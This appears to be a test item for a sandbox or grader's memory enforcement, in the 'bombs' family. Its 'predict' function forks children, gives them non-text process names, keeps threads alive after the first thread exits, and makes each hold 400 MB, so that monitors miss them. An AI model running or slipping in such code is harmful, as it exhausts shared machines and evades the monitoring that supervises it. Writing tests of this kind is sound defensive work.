"""Children take memory under names that are no text, and one goes on when its first thread has ended: whoever reads names as
text, or looks at first threads only, does not see them.

family: bombs
expect: 85
rest: solved
status: predict=MEMORY
"""

cells = {
    "predict-answer": """
import ctypes, os, threading, time

def take():
    hold = bytearray(b"x") * (400 << 20)
    time.sleep(600)

def predict(w, b, X):
    libc = ctypes.CDLL(None)
    for k in range(4):
        if os.fork() == 0:
            libc.prctl(15, b"\\xff)\\n(\\xfe", 0, 0, 0)
            if k % 2:
                threading.Thread(target=lambda: time.sleep(0.1) or take()).start()
                libc.syscall(60, 0)
            take()
    time.sleep(600)
""",
}
